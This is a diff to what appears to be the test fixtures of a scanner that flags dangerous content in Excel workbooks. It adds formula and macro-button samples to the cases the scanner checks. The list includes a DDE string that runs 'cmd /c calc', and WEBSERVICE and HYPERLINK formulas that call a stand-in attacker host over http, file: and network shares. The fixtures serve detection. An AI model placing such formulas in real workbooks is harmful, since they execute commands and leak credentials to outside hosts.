@@ -48,7 +48,7 @@ def _nature(name: str, carries: str, caught_by: str, *makers: Callable[[], Made]
 
 _REACHING = (
     f"WEBSERVICE(&quot;http://{EVIL}&quot;)", "_xlfn.IMAGE(A1)", "RTD(A1)", "CALL(A1)", "REGISTER.ID(A1)",
-    "cmd|' /c calc'!A0", "[1]Sheet1!A1", "'[a.xlsx]Tháng 1'!A1",
+    "_xlfn._xlws.PY(0,1)", "STOCKHISTORY(A1)", "CUBEVALUE(A1)", "cmd|' /c calc'!A0", "[1]Sheet1!A1", "'[a.xlsx]Tháng 1'!A1",
     f"HYPERLINK(&quot;file://{EVIL}&quot;)", f"HYPERLINK(&quot;\\\\{EVIL}\\a&quot;)",
 )  # fmt: skip
 
@@ -76,6 +76,9 @@ NATURES = [
             partial(carried, "xl/embeddings/o.bin", OLE, "oleObject"), partial(carried, "xl/ctrl.xml", "<a/>", "control")),
     _nature("drawing of a workbook that runs a macro", "macro of a shape", acting.BUTTONS,
             partial(carried, "xl/drawings/d.xml", '<d:sp xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" macro="[0]!x"/>', "drawing")),
+    _nature("button of a workbook", "FmlaMacro, controlPr", acting.BUTTONS,
+            partial(carried, "xl/drawings/v.vml", '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:FmlaMacro>[0]!a</x:FmlaMacro></xml>', "vmlDrawing"),
+            partial(carried, "xl/c.xml", f'<controlPr {NAMES} macro="[0]!a"/>', "ctrlProp")),
     _nature("link of a workbook to a file", "hyperlink to file:, a share", acting.LINK,
             partial(outside, "hyperlink", f"file://{EVIL}/a"), partial(outside, "hyperlink", f"\\\\{EVIL}\\a")),
     _nature("picture of a workbook from the web", "image, External", acting.PICTURE, partial(outside, "image", f"http://{EVIL}")),
